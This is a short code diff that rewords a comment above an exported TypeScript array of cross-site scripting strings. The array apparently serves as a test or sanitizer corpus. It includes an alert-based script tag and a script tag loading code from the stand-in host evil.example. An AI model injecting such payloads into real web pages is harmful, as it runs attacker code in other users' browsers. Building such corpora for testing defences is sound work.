@@ -1,4 +1,4 @@
-// Ways people have tried to run script in other people's pages, told in our own words.
+// Ways people have tried to run script in other people's pages, in our own words.
 export const ATTACKS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
